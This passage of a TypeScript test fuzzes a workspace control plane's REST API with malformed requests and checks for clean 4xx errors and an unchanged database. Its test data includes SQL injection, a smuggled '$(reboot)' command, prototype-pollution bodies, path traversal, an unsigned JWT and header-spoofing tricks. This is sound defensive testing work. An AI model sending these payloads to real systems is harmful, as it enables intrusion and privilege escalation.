      if (bad !== undefined) return json({ ...op.base, [name]: bad });
    }
    return op.body?.additionalProperties === false ? json({ ...op.base, fz_unknown_field: 1 }) : '[]';
  };
  /** The base body's members, ready to have one more appended: `{${inner}"k":v}`. */
  const inner = (op: Op) => {
    const s = json(op.base);
    return s === '{}' ? '' : `${s.slice(1, -1)},`;
  };
  const withBody = (op: Op) => op.body !== undefined;
  const bodyOps = ops.filter(withBody);

  // 1. Every property of every body: wrong types, metacharacters, unicode, huge strings,
  //    and values aimed at its schema (range, pattern, enum, length); missing required
  //    properties; unknown properties, which must be refused by name.
  for (const op of bodyOps) {
    const named = (name: string) => (op.baseOk ? name : undefined);
    for (const [name, schema] of op.props) {
      const ok = (v: unknown) => op.bodyOk({ ...op.base, [name]: v });
      for (const v of uniqueValues([...BAD_VALUES, ...schemaBad(schema, ok)])) {
        const b: Record<string, unknown> = { ...op.base };
        b[name] = v;
        const field = named(name);
        add({ what: `property ${name}`, op, body: json(b), ...(field ? { field } : {}) }, PLAIN_SHARE);
      }
      // The property as an unknown neighbour, in other cases, and with invisible characters.
      for (const alias of [name.toUpperCase(), `${name} `, `${name}\u0000`, `\u200b${name}`, `${name}[]`, `${name}.x`]) {
        if (alias === name) continue;
        const field = named(alias);
        add({ what: `alias ${JSON.stringify(alias)} of ${name}`, op, body: `{${inner(op)}${json(alias)}:"x"}`, ...(field ? { field } : {}) }, PLAIN_SHARE);
      }
      // A schema-valid value: only sent where it cannot act, or on a sacrificial id.
      const ex = exampleOf(schema, ok);
      if (ex !== undefined) add({ what: `valid ${name}`, op, body: json({ ...op.base, [name]: ex }) }, PLAIN_SHARE);
    }
    for (const r of op.required) {
      const b = { ...op.base };
      delete b[r];
      const field = named(r);
      add({ what: `without ${r}`, op, body: json(b), ...(field ? { field } : {}) }, PLAIN_SHARE);
    }
    if (op.required.length > 1) {
      const field = named(op.required[0] as string);
      add({ what: 'without any required property', op, body: '{}', ...(field ? { field } : {}) });
    }
    for (const extra of ['privileged', 'binds', 'devices', 'networkMode', 'capAdd', 'userId', 'hostId', 'status', 'id', 'role', 'attempt', 'constructor', '__proto__', 'prototype', 'admin']) {
      if (op.props.some(([n]) => n === extra)) continue;
      const field = named(extra);
      add({ what: `unknown property ${extra}`, op, body: `{${inner(op)}${json(extra)}:true}`, ...(field ? { field } : {}) }, PLAIN_SHARE);
    }
  }

  // 2. Bodies of the wrong shape.
  const SHAPES = ['{}', '', ' ', 'null', '[]', '[{}]', '"x"', '0', '-1', 'true', '{"":""}', '{', '}', '{"a":', '{"a":1,}', "{'a':1}", '{"a":NaN}', '{"a":Infinity}', '{"a":undefined}', '{"a":1}{"b":2}', '// comment\n{}', '\ufeff{}', '\ufeff', '{"reason":"a"\u0000}', '{"\\u0000":1}', '\u0000', '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"admin":true}}}'];
  for (const op of bodyOps) {
    for (const s of SHAPES) add({ what: `body shape ${JSON.stringify(s).slice(0, 40)}`, op, body: s }, PLAIN_SHARE);
    const first = op.props[0]?.[0];
    if (first) add({ what: 'duplicate key, the last one wrong', op, body: `{${inner(op)}${json(first)}:${json(exampleOf(op.props[0]?.[1] as JsonSchema, () => true) ?? 'x')},${json(first)}:{"$ne":null}}` });
  }

  // 3. Huge bodies (over 64 KiB, with valid content: size alone must refuse them) and deep nesting.
  const pad = (s: string, n: number) => s + ' '.repeat(Math.max(0, n - Buffer.byteLength(s)));
  for (const op of bodyOps) {
    const valid = json(op.base);
    const first = op.props[0]?.[0] ?? 'x';
    // A body over the operation's limit is refused for its size alone; under it (an
    // operation that takes more, e.g. many workspaces at once), for what it holds.
    const bySize = (body: string) => (Buffer.byteLength(body) > op.maxBody ? [413] : [400]);
    add({ what: 'valid body padded to its limit + 1', op, body: pad(valid, op.maxBody + 1), expect: [413] });
    add({ what: 'valid body padded to 1 MiB', op, body: pad(valid, 1024 * 1024), expect: bySize(pad(valid, 1024 * 1024)) });
    const huge = json({ ...op.base, [first]: 'x'.repeat(70_000) });
    add({ what: 'huge string property', op, body: huge, expect: bySize(huge) });
    const hugeArray = json(Array.from({ length: 20_000 }, (_, i) => i));
    add({ what: 'huge array', op, body: hugeArray, expect: bySize(hugeArray) });
    const deep = '['.repeat(40_000) + ']'.repeat(40_000);
    add({ what: 'deep nesting over 64 KiB', op, body: deep, expect: bySize(deep) });
    add({ what: 'deep array nesting under 64 KiB', op, body: '['.repeat(32_000) + ']'.repeat(32_000), expect: [400] });
    add({ what: 'deep object nesting under 64 KiB', op, body: '{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000), expect: [400] });
    add({ what: 'deep nesting inside a property', op, body: `{${json(first)}:${'['.repeat(30_000)}${']'.repeat(30_000)}}`, expect: [400] });
    add({ what: 'nesting one level too deep inside a property', op, body: json({ ...op.base, [first]: nested(MAX_DEPTH) }), expect: [400] });
    add({ what: 'unclosed deep nesting', op, body: '['.repeat(60_000), expect: [400] });
    add({ what: 'chunked, its limit + 1 without length', op, body: chunked(pad(valid, op.maxBody + 1)), extraHeaders: [['Transfer-Encoding', 'chunked']], expect: [413] });
    add({ what: 'invalid body of exactly its limit', op, body: pad(invalidBody(op), op.maxBody), expect: [400] });
    add({ what: 'invalid body, chunked', op, body: chunked(invalidBody(op)), extraHeaders: [['Transfer-Encoding', 'chunked']], expect: [400] });
  }

  // 4. Raw bytes in every string property: invalid UTF-8, lone surrogate escapes, other encodings.
  const RAW: Buffer[] = [
    Buffer.from([0xff, 0xfe, 0xfd]),
    Buffer.from([0xc3, 0x28]),
    Buffer.from([0xc0, 0xaf]),
    Buffer.from([0xed, 0xa0, 0x80]), // CESU-8 lone surrogate
    Buffer.from([0xf4, 0x90, 0x80, 0x80]), // above U+10FFFF
    Buffer.from([0x00]),
    Buffer.from('\\ud800', 'latin1'),
    Buffer.from('\\udfff\\ud800', 'latin1'),
    Buffer.from('\\u0000', 'latin1'),
    Buffer.from('a\\u202eb', 'latin1'),
  ];
  const takesString = (s: JsonSchema): boolean => s.type === 'string' || (Array.isArray(s.type) && s.type.includes('string')) || [...(s.anyOf ?? []), ...(s.oneOf ?? [])].some(takesString);
  for (const op of bodyOps) {
    for (const [name] of op.props.filter(([, s]) => takesString(s))) {
      const rest = { ...op.base };
      delete rest[name];
      const prefix = json(rest) === '{}' ? '{' : `${json(rest).slice(0, -1)},`;
      for (const raw of RAW) add({ what: `raw bytes ${raw.toString('hex')} in ${name}`, op, body: Buffer.concat([Buffer.from(`${prefix}${json(name)}:"`), raw, Buffer.from('"}')]) }, PLAIN_SHARE);
    }
    const utf16 = Buffer.from(json(op.base), 'utf16le');
    add({ what: 'UTF-16 body', op, body: utf16, contentType: 'application/json; charset=utf-16', expect: [400] });
    add({ what: 'UTF-16 body with BOM', op, body: Buffer.concat([Buffer.from([0xff, 0xfe]), utf16]), expect: [400] });
  }

  // 5. Path tricks in every parameter of every operation, and around whole paths.
  for (const op of ops) {
    const body = withBody(op) ? invalidBody(op) : undefined;
    for (const p of op.pathParams) {
      // Every structural trick; a seeded third of the encoded metacharacters (each still reaches every parameter kind).
      for (const trick of SEGMENT_TRICKS.filter((x, i) => i < SEGMENT_STRUCTURAL || rnd() < 0.35)) {
        add({ what: `path trick in {${p.name}}`, op, params: { [p.name]: trick }, ...(body !== undefined ? { body } : {}) }, PLAIN_SHARE);
      }
      // Tricks around a real id: reads as they are; changes with an unknown query
      // parameter, which must be refused before anything happens.
      const real = fill(op, 'read', 'admin')[p.name] as string;
      for (const around of [`${real}%00`, `%00${real}`, `${real}%2F`, `${real}%2F..`, real.toUpperCase(), `${real}%20`, `%20${real}`, `${real}.`, `${real}%2e%2e`, `${real}%252F`, `${real}/`, `${real}//`, `${real}%0A`, `${real}%E2%80%8B`, `${real};`, `${real}%3B`]) {
        add({ what: `trick around a real {${p.name}}`, op, mode: 'read', params: { [p.name]: around }, ...(op.mutates ? { query: 'fz_probe=1' } : {}), ...(body !== undefined ? { body } : {}) });
      }
    }
    // Whole-path variants: the router may or may not take them for the operation.
    const variants: ((t: string) => string)[] = [
      (t) => `${t}/`, (t) => `${t}//`, (t) => `/${t}`, (t) => t.replace(/^\/v1\//, '/v1//'), (t) => t.replace(/^\/v1\//, '/v1/./'), (t) => t.replace(/^\/v1\//, '/v1/x/../'),
      (t) => `${t}/.`, (t) => `${t}/..`, (t) => t.toUpperCase(), (t) => t.replace(/^\/v1\//, '/V1/'), (t) => t.replace(/^\/v1\//, '/v1%2F'), (t) => t.replace(/^\/v1/, '/%76%31'),
      (t) => `${t}%2F`, (t) => `${t};x=1`, (t) => `${t}?`, (t) => `${t}#frag`, (t) => `${t}?x=${enc(SQL[0] as string)}`, (t) => `${t}?__proto__=1&constructor=2`,
      (t) => `${t}?${'q='.repeat(2000)}`, (t) => t.replace(/\//g, '%2F'), (t) => `http://evil.example${t}`, (t) => `${t}%00`, (t) => `${t}%20`, (t) => t.replace(/\//g, '\\'),
    ];
    for (const v of variants) add({ what: 'path variant', op, variant: v, ...(body !== undefined ? { body } : {}) });
  }

  // 6. Query parameters have schemas too: junk in a known one, an unknown one, a repeated
  //    one: a 400 naming it, before anything happens (so real targets are safe here).
  //
  //    A NUL in a query value (GET /v1/audit?actor=%00) was a 500 until path and query
  //    parameters went through the same NUL/surrogate check as bodies: a 400 naming it.
  for (const op of ops) {
    const body = withBody(op) ? json(op.base) : undefined;
    for (const p of op.queryParams) {
      for (const v of uniqueValues([...queryBad(p), ...[...SQL, ...SHELL, ...UNICODE.filter(isWellFormed)].map(enc)]) as string[]) {
        const q = `${encodeURIComponent(p.name)}=${v}`;
        const refused = !queryState(op, q).ok;
        add({ what: `query ${p.name} junk`, op, mode: refused ? 'read' : 'write', query: q, ...(body !== undefined ? { body } : {}) }, PLAIN_SHARE);
      }
      const ex = exampleOf(p.schema, p.ok);
      if (ex !== undefined) {
        const v = encodeURIComponent(String(ex));
        add({ what: `query ${p.name} valid`, op, query: `${p.name}=${v}`, ...(body !== undefined ? { body: invalidBody(op) } : {}) }, PLAIN_SHARE);
        // A parameter documented as repeatable (exec's argv) is the one exception.
        if (!JSON.stringify(p.schema).includes('"array"')) add({ what: `query ${p.name} repeated`, op, query: `${p.name}=${v}&${p.name}=${v}`, ...(body !== undefined ? { body } : {}) }, PLAIN_SHARE);
        add({ what: `query ${p.name} as an array`, op, query: `${p.name}[]=${v}`, ...(body !== undefined ? { body } : {}) });
        add({ what: `query ${p.name} uppercased`, op, query: `${p.name.toUpperCase()}=${v}`, ...(body !== undefined ? { body } : {}) });
      }
    }
    for (const q of ['fz_unknown=1', '__proto__=1', 'constructor=x', 'toString=1', 'hasOwnProperty=1', `${enc(SQL[0] as string)}=1`, 'a[b]=1', '=1', '%00=1', 'wait=1&fz=2', `${'k'.repeat(300)}=1`]) {
      add({ what: `unknown query ${q.slice(0, 30)}`, op, query: q, ...(body !== undefined ? { body } : {}) }, PLAIN_SHARE);
    }
  }

  // 7. Wrong methods on every path of the document.
  const byPath = new Map<string, Op[]>();
  for (const op of ops) byPath.set(op.path, [...(byPath.get(op.path) ?? []), op]);
  for (const [path, pathOps] of byPath) {
    const has = new Set(pathOps.map((o) => o.method));
    const first = pathOps[0] as Op;
    const publicOnly = pathOps.every((o) => o.access === 'public');
    for (const m of ['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'PROPFIND', 'PURGE', 'LOCK', 'MKCOL', 'TRACE', 'SEARCH']) {
      if (has.has(m) || (m === 'HEAD' && has.has('GET'))) continue;
      const values = fill(first, m === 'GET' || m === 'HEAD' || m === 'OPTIONS' ? 'read' : 'write', 'admin');
      const target = path.replace(/\{(\w+)\}/g, (_, n: string) => values[n] as string);
      if (forbidden(m, target, 'admin', false)) continue;
      const body = m === 'GET' || m === 'HEAD' || m === 'TRACE' ? undefined : json(first.base);
      cases.push({ what: `method ${m} on ${path}`, who: 'admin', method: m, target, ...(body ? { body } : {}), expect: m === 'OPTIONS' ? [200, 204, 404] : publicOnly || !path.startsWith('/v1') ? [404, 405] : [405] });
    }
  }

  // 8. Content types: valid bodies on real targets that are not declared JSON are refused.
  const WRONG_CT = [null, 'text/plain', 'text/plain; charset=utf-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=----x', 'application/xml', 'text/html', 'application/octet-stream', 'image/png', 'text/json', 'application/jsonp', 'application/json5', 'json/application', '*/*', 'application/*'];
  const ODD_CT = ['application/json; charset=latin1', 'application/json; charset=utf-16', 'application/json, text/plain', 'application/json;;', 'application/vnd.api+json', 'application/merge-patch+json', 'application/json\u00ff', ';', ' ', 'application/json; boundary=' + 'x'.repeat(4000)];
  for (const op of bodyOps) {
    const valid = json({ ...op.base, ...Object.fromEntries(op.props.map(([n, s]) => [n, exampleOf(s, () => true)]).filter(([, v]) => v !== undefined)) });
    const body = op.bodyOk(JSON.parse(valid)) ? valid : json(op.base);
    for (const ct of WRONG_CT) add({ what: `content type ${ct}`, op, mode: 'read', body, contentType: ct, expect: [415] });
    for (const ct of ODD_CT) add({ what: `odd content type ${ct.slice(0, 40)} with an invalid body`, op, body: invalidBody(op), contentType: ct, expect: [400, 415] });
  }

  // 9. Authorization: real, valid requests with absent or garbage tokens.
  const T = f.token;
  const BAD_AUTH: (string | null)[] = [
    null, '', 'Bearer', 'Bearer ', 'Basic YWRtaW46YWRtaW4=', 'Bearer null', 'Bearer undefined', `Bearer ${T}x`, `Bearer ${T.slice(0, -1)}`,
    `Bearer ${T} extra`, `Token ${T}`, T, `Bearer${T}`, "Bearer ' OR 1=1 --", 'Bearer $(reboot)', `Bearer ${'A'.repeat(8000)}`, 'Bearer \u00ff\u00fe',
    `Bearer ${T.toUpperCase()}`, `Bearer "${T}"`, `Bearer ${T},${T}`, 'Bearer *', 'Bearer %00', `Bearer ${T}%00`,
    `Bearer ${f.plain.token}x`, `Bearer ${f.plain.token.slice(0, 12)}`, 'Bearer a4c_u_', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.',
  ];
  for (const op of ops.filter((o) => o.access !== 'public')) {
    const body = withBody(op) ? json(op.base) : undefined;
    const mode = forbidden(op.method, op.path.replace(/\{(\w+)\}/g, (_, n: string) => fill(op, 'read', 'admin')[n] as string), 'admin', false) ? 'write' : 'read';
    // A seeded half per operation: every value still reaches a dozen or more operations.
    for (const a of BAD_AUTH.filter((_, i) => i < 4 || rnd() < 0.5)) add({ what: `authorization ${JSON.stringify(a)?.slice(0, 30)}`, op, mode, ...(body !== undefined ? { body } : {}), auth: a, expect: [401] });
    // A second Authorization header after a bad first one does not help.
    add({ what: 'two authorization headers', op, mode, ...(body !== undefined ? { body } : {}), auth: 'Bearer wrong', extraHeaders: [['Authorization', `Bearer ${T}`]], expect: [401] });
  }
  // Headers the API reflects or might trust.
  const getWorkspace = ops.find((o) => o.method === 'GET' && o.path === '/v1/workspaces/{id}');
  const listHosts = ops.find((o) => o.method === 'GET' && o.path === '/v1/hosts');
  for (const v of [...SQL, 'x'.repeat(5000), '\u00ff\u00fe', '<script>', '../..']) {
    if (getWorkspace) add({ what: 'x-request-id junk', op: getWorkspace, params: { id: FAKE_UUID }, extraHeaders: [['X-Request-Id', v]], expect: [404] });
    if (listHosts) add({ what: 'x-forwarded junk', op: listHosts, extraHeaders: [['X-Forwarded-For', v], ['X-Forwarded-Host', v], ['X-Original-URL', `/v1/hosts/${f.host}/drain`], ['X-HTTP-Method-Override', 'DELETE']], expect: [200] });
  }

  // 10. The non-admin reaching for what is not theirs with valid requests on real
  //     targets: admin-only operations 403, others' resources 404, never a 2xx. The
  //     victim's token must survive its revocation attempts.
  for (const op of ops.filter((o) => o.access !== 'public')) {
    const bodies = new Set<string | undefined>();
    if (!withBody(op)) bodies.add(undefined);
    else {
      bodies.add(json(op.base));
      for (const [name, s] of op.props) for (const e of (s.enum ?? [...(s.anyOf ?? [])].flatMap((b) => b.enum ?? [])) as unknown[]) bodies.add(json({ ...op.base, [name]: e }));
    }
    for (const body of bodies) {
      const probe = (params: Record<string, string> | undefined, what: string, noSuccess = false) => {
        const c = make({ what, op, mode: 'read', ...(params ? { params } : {}), ...(body !== undefined ? { body } : {}), ...(noSuccess ? { noSuccess } : {}) }, 'plain');
        if (c) cases.push(c);
      };
      const tokenPath = /\{tokenId\}/.test(op.path);
      const others = op.pathParams.some((p) => p.name === 'userId') && !tokenPath ? { userId: f.user } : undefined;
      probe(others, 'non-admin on real targets');
      // Its own user id: admin-only operations stay admin-only; the victim's token is not its token.
      if (op.pathParams.some((p) => p.name === 'userId') && (op.access === 'admin' || tokenPath)) probe({ userId: f.plain.id }, 'non-admin on itself', true);
    }
  }

  // 11. Random combinations from the seeded PRNG.
  const rndString = () => {
    const n = Math.floor(rnd() * 40);
    let s = '';
    for (let i = 0; i < n; i++) {
      const k = rnd();
      s += k < 0.5 ? String.fromCharCode(0x20 + Math.floor(rnd() * 95)) : k < 0.8 ? String.fromCodePoint(Math.floor(rnd() * 0x10ffff)) : String.fromCharCode(Math.floor(rnd() * 0x10000));
    }
    return rnd() < 0.3 ? pick(STRINGS.filter((x) => x.length < 1000)) : s;
  };
  const allProps = [...new Set(ops.flatMap((o) => o.props.map(([n]) => n)))];
  const rndValue = (depth: number): unknown => {
    const k = rnd();
    if (depth > 3 || k < 0.4) return rndString();
    if (k < 0.55) return pick([0, -1, 1.5, 1e308, 2 ** 31, -(2 ** 31), 1e-320, rnd() * 1e12 - 5e11]);
    if (k < 0.62) return pick([true, false, null]);
    if (k < 0.8) return Array.from({ length: Math.floor(rnd() * 4) }, () => rndValue(depth + 1));
    const o: Record<string, unknown> = Object.create(null) as Record<string, unknown>;
    for (let i = Math.floor(rnd() * 4); i > 0; i--) o[rnd() < 0.5 ? pick([...allProps, '__proto__', 'constructor']) : rndString()] = rndValue(depth + 1);
    return o;
  };
  let made = 0;
  while (made < 800) {
    const op = pick(ops);
    const s: Spec = { what: 'random', op };
    if (rnd() < 0.3 && op.pathParams.length) s.params = { [pick(op.pathParams).name]: rnd() < 0.5 ? pick(SEGMENT_TRICKS) : enc(rndString()) || '%00' };
    if (rnd() < 0.25) {
      const p = op.queryParams.length && rnd() < 0.7 ? pick(op.queryParams).name : enc(rndString()) || 'x';
      s.query = `${p}=${rnd() < 0.5 ? enc(rndString()) : pick(queryBad(op.queryParams[0] ?? ({ schema: {} } as Param)))}`;
    }
    if (withBody(op) || rnd() < 0.1) {
      if (withBody(op) && rnd() < 0.7) {
        const b: Record<string, unknown> = { ...op.base };
        for (let i = 1 + Math.floor(rnd() * 3); i > 0; i--) {
          const fld = pick([...op.props.map(([n]) => n), 'privileged', rndString()]);
          if (rnd() < 0.2) delete b[fld];
          else b[fld] = rndValue(0);
        }
        s.body = json(b);
      } else s.body = json(rndValue(0));
    }
    const k = rnd();
    if (k < 0.1) s.auth = pick(BAD_AUTH);
    else if (k < 0.2 && s.body !== undefined) s.contentType = pick([...WRONG_CT, ...ODD_CT]);
    if (rnd() < 0.1) s.extraHeaders = [['X-Request-Id', rndString().replace(/[^\x20-\x7e]/g, '?')]];
    const before = cases.length;
    add(s, s.auth === undefined ? PLAIN_SHARE : 0);
    if (cases.length > before) made++;
  }
  return { cases, withheld };
}

function chunked(s: string): Buffer {
  const parts: Buffer[] = [];
  const b = Buffer.from(s);
  for (let i = 0; i < b.length; i += 8192) {
    const piece = b.subarray(i, i + 8192);
    parts.push(Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from('\r\n'));
  }
  parts.push(Buffer.from('0\r\n\r\n'));
  return Buffer.concat(parts);
}

// ---------------------------------------------------------------- database snapshots

type Snapshot = Map<string, string>;

/** What the fuzz may not change: every table a route of the API writes (migrations 001-009). */
async function snapshot(databaseUrl: string): Promise<Snapshot> {
  const c = new pg.Client({ connectionString: databaseUrl });
  await c.connect();
  try {
    const s: Snapshot = new Map();
    const take = async (table: string, key: string, sql: string) => {
      const { rows } = await c.query(sql);
      for (const r of rows as Record<string, unknown>[]) s.set(`${table}:${String(r[key])}`, JSON.stringify(r));
    };
    await take('workspaces', 'id', 'SELECT * FROM workspaces ORDER BY id');
    // Reservations, removal and what placement depends on; capacity and heartbeats move by themselves.
    await take('hosts', 'id', 'SELECT id, arch, draining, removed_at, revision, reserved_memory_mb, reserved_millicpus, reserved_disk_mb, reserved_workspaces FROM hosts ORDER BY id');
    await take('users', 'id', 'SELECT * FROM users ORDER BY id');
    await take('user_quotas', 'user_id', 'SELECT * FROM user_quotas ORDER BY user_id');
    await take('team_quotas', 'team_id', 'SELECT * FROM team_quotas ORDER BY team_id');
    // last_used_at moves with every request a token authenticates.
    await take('api_tokens', 'id', 'SELECT id, user_id, name, token_hash, prefix, created_at, expires_at, revoked_at FROM api_tokens ORDER BY id');
    await take('join_tokens', 'token_sha256', 'SELECT * FROM join_tokens ORDER BY token_sha256');
    await take('image_builds', 'id', 'SELECT * FROM image_builds ORDER BY id');
    await take('build_logs', 'k', "SELECT build_id || ':' || seq AS k, * FROM build_logs ORDER BY build_id, seq");
    await take('registry_images', 'ref', 'SELECT * FROM registry_images ORDER BY ref');
    await take('agent_certificates', 'serial', 'SELECT * FROM agent_certificates ORDER BY serial');
    await take('revoked_certificates', 'serial', 'SELECT * FROM revoked_certificates ORDER BY serial');
    await take('events', 'id', "SELECT id, kind, actor, workspace_id, host_id, data FROM events WHERE actor NOT LIKE 'agent:%' ORDER BY id");
    return s;
  } finally {
    await c.end();
  }
}

// ---------------------------------------------------------------- the test

interface Failure {
  c: Case;
  status?: number;
  body?: string;
  error?: string;
  why: string;
}

function describeCase(c: Case): string {
  const body = c.body === undefined ? '' : ` body(${c.body.length} bytes)=${JSON.stringify((typeof c.body === 'string' ? c.body : c.body.toString('latin1')).slice(0, 160))}`;
  const auth = c.auth === undefined ? '' : c.who === 'plain' ? ' as the non-admin' : ` auth=${JSON.stringify(c.auth)?.slice(0, 60)}`;
  const ct = c.contentType === undefined ? '' : ` content-type=${JSON.stringify(c.contentType)?.slice(0, 60)}`;
  return `[${c.what}] ${c.method} ${c.target.length > 200 ? `${c.target.slice(0, 200)}…(${c.target.length})` : c.target}${auth}${ct}${body}`;
}

describe('REST API fuzz', () => {
  let t: TestControlPlane;
  let agent: AgentProcess;
  const hostId = uniqueId('fuzz');
  const user = uniqueId('fzu');
  const rejUser = uniqueId('fzrej');
  const plainUser = uniqueId('fzplain');
  const victimUser = uniqueId('fzvictim');
  const zeroUser = uniqueId('fzzero');
  let victimToken: string;
  let fx: Fixture;
  let ops: Op[];
  let baseline: Snapshot;
  let port: number;
  const rejectProbes: { ws: string; reason: string | Buffer }[] = [];

  before(async function () {
    this.timeout(90_000);
    t = await startTestControlPlane();
    port = Number(new URL(t.api.baseUrl).port);
    // No build slots: the fixture build stays SCHEDULED, so image_builds only changes if a request changes it.
    agent = await spawnAgent({ hostId, controlPlane: t.grpcAddress, env: { A4C_BUILD_SLOTS: '0' } });
    await t.api.waitHostConnected(hostId);
    const running = await t.api.createWorkspace(user, { projectName: 'fz', arch: 'linux-x64', tier: 'tiny', name: 'running' });
    expect(running.status).to.equal('RUNNING');
    const pending = await t.api.createWorkspace(user, { projectName: 'fz', arch: 'linux-x64', tier: 'xl', name: 'pending' }, 0);
    expect(pending.status).to.equal('PENDING_APPROVAL');
    const build = await t.api.call<{ id: string }>('POST', `/v1/users/${user}/image-schedules`, { imageName: 'fz-img', project: 'fz', arch: 'linux-x64', changeNumber: 'C-1' });
    expect(build.status, JSON.stringify(build.body)).to.equal(202);
    // The non-admin the fuzz also sends as, and a second user whose token it tries to revoke.
    const tokens: Record<string, { token: string; id: string }> = {};
    for (const u of [plainUser, victimUser]) {
      expect((await t.api.call('POST', '/v1/users', { id: u })).status).to.equal(201);
      const tok = await t.api.call<{ token: string; id: string }>('POST', `/v1/users/${u}/tokens`, { name: 'fuzz' });
      expect(tok.status, JSON.stringify(tok.body)).to.equal(201);
      tokens[u] = tok.body;
    }
    victimToken = (tokens[victimUser] as { token: string }).token;
    // Quota-governed creations are fuzzed for a user allowed none, so that even a valid one must be refused.
    expect((await t.api.call('PUT', `/v1/users/${zeroUser}/quota`, { maxWorkspaces: 0, maxDiskGb: 0, maxConcurrentBuilds: 0 })).status).to.equal(200);
    // Workspaces waiting for approval, one per reject reason probed below.
    expect((await t.api.call('PUT', `/v1/users/${rejUser}/quota`, { maxWorkspaces: 1000, maxDiskGb: 1e9 })).status).to.equal(200);
    const reasons: (string | Buffer)[] = [
      ...SQL.slice(0, 3), ...SHELL.slice(0, 4), ...UNICODE.filter((s) => s !== '<script>alert(1)</script>'), 'r'.repeat(500),
      Buffer.from('{"reason":"bad \\ud800 surrogate"}'), Buffer.concat([Buffer.from('{"reason":"'), Buffer.from([0xff, 0xc3, 0x28, 0xed, 0xa0, 0x80]), Buffer.from('"}')]),
    ];
    for (const [i, reason] of reasons.entries()) {
      const w = await t.api.createWorkspace(rejUser, { projectName: 'fz', arch: 'linux-x64', tier: 'xl', name: `p${i}` }, 0);
      rejectProbes.push({ ws: w.id, reason });
    }
    fx = {
      user,
      running: running.id,
      pending: pending.id,
      build: build.body.id,
      host: hostId,
      sacUsers: ['fz-sac-0', 'fz-sac-1', 'fz-sac-2'],
      sacTeams: ['fz-team-0', 'fz-team-1'],
      zeroUser,
      protectedUsers: [user, rejUser, plainUser, victimUser, zeroUser],
      token: t.cp.adminToken,
      plain: { id: plainUser, token: (tokens[plainUser] as { token: string }).token, tokenId: (tokens[plainUser] as { id: string }).id },
      victim: { id: victimUser, tokenId: (tokens[victimUser] as { id: string }).id },
    };
    // The operations to fuzz: the server's own description of itself.
    const doc = await t.api.call<OpenApiDoc>('GET', '/v1/openapi.json', undefined, { token: null });
    expect(doc.status).to.equal(200);
    ops = operationsOf(doc.body, new Ajv2020({ strict: false, validateFormats: false, allErrors: false }));
    expect(ops.length, 'operations in /v1/openapi.json').to.be.at.least(30);
    baseline = await snapshot(t.databaseUrl);
  });

  after(async () => {
    await agent?.kill();
    await t?.stop();
    await removeHostContainers(hostId);
  });

  const touched = { users: new Set<string>(), teams: new Set<string>(), workspaces: new Set<string>() };
  let okMutations = 0;

  it('answers thousands of malformed requests to every operation of /v1/openapi.json with a 4xx JSON error, never a 5xx, and lets none of them mutate', async function () {
    this.timeout(180_000);
    const { cases, withheld } = generate(fx, ops);
    expect(cases.length).to.be.at.least(2000);
    // Every operation in the document is fuzzed, whatever was added since this was written.
    const perOp = new Map<string, number>(ops.map((o) => [o.id, 0]));
    for (const c of cases) if (c.opId) perOp.set(c.opId, (perOp.get(c.opId) ?? 0) + 1);
    const unfuzzed = [...perOp.entries()].filter(([, n]) => n === 0).map(([id]) => id);
    expect(unfuzzed, 'operations in /v1/openapi.json without a single fuzz case').to.deep.equal([]);
    for (const op of ops.filter((o) => o.access !== 'public')) {
      expect(cases.some((c) => c.opId === op.id && c.who === 'plain'), `${op.id} got no case as the non-admin`).to.equal(true);
    }

    const failures: Failure[] = [];
    const statuses = new Map<number, number>();
    let next = 0;
    const worker = async () => {
      for (;;) {
        const c = cases[next++];
        if (!c) return;
        const headers: [string, string][] = [];
        const auth = c.auth === undefined ? `Bearer ${fx.token}` : c.auth;
        if (auth !== null) headers.push(['Authorization', auth]);
        if (c.body !== undefined) {
          const ct = c.contentType === undefined ? 'application/json' : c.contentType;
          if (ct !== null) headers.push(['Content-Type', ct]);
        }
        headers.push(...(c.extraHeaders ?? []));
        let res: RawResponse;
        try {
          res = await rawRequest(port, c.method, c.target, headers, c.body === undefined ? undefined : Buffer.isBuffer(c.body) ? c.body : Buffer.from(c.body, 'utf8'));
        } catch (e) {
          failures.push({ c, error: (e as Error).message, why: 'no HTTP response' });
          continue;
        }
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        const fail = (why: string) => failures.push({ c, status: res.status, body: res.text.slice(0, 500), why });
        const err = res.json as { error?: unknown; message?: unknown; field?: unknown; requestId?: unknown } | undefined;
        if (res.status >= 500 && !(res.status === 503 && err?.error === 'CAPACITY_EXHAUSTED')) fail('5xx');
        // Request rate limits are off in tests (test/support/cluster.ts): one here means they are not.
        if (err?.error === 'RATE_LIMITED') fail('429 RATE_LIMITED: rate limiting is on in the test control plane');
        if (res.status >= 400 && c.method !== 'HEAD') {
          if (!err || typeof err !== 'object' || typeof err.error !== 'string' || typeof err.message !== 'string' || !err.message) fail('error body is not {error, message} JSON');
          else if (typeof err.requestId !== 'string') fail('error body without requestId');
        }
        if (c.expect && !c.expect.includes(res.status)) fail(`expected ${c.expect.join(' or ')}`);
        // The property, or a place inside it (events.0: the first kind of the list is wrong).
        const names = (f: unknown) => typeof f === 'string' && (f === c.field || f.startsWith(`${c.field}.`));
        if (c.field !== undefined && res.status === 400 && !names(err?.field)) fail(`expected the error to name ${JSON.stringify(c.field)}`);
        const ok = res.status >= 200 && res.status < 300;
        if (ok && c.noSuccess) fail('the non-admin got a 2xx for what is not theirs');
        if (ok && c.method !== 'GET' && c.method !== 'HEAD' && c.method !== 'OPTIONS') {
          if (!c.mayMutate) fail('a malformed mutating request succeeded');
          else {
            okMutations++;
            for (const u of c.mayMutate.users ?? []) touched.users.add(u);
            for (const tm of c.mayMutate.teams ?? []) touched.teams.add(tm);
            for (const w of c.mayMutate.workspaces ?? []) touched.workspaces.add(w);
          }
        }
      }
    };
    const started = Date.now();
    await Promise.all(Array.from({ length: 12 }, () => worker()));
    const ms = Date.now() - started;
    const summary = [...statuses.entries()].sort((a, b) => a[0] - b[0]).map(([s, n]) => `${s}×${n}`).join(' ');
    const asPlain = cases.filter((c) => c.who === 'plain').length;
    const exact = cases.filter((c) => c.expect).length;
    const named = cases.filter((c) => c.field !== undefined).length;
    const held = [...withheld.values()].reduce((a, b) => a + b, 0);
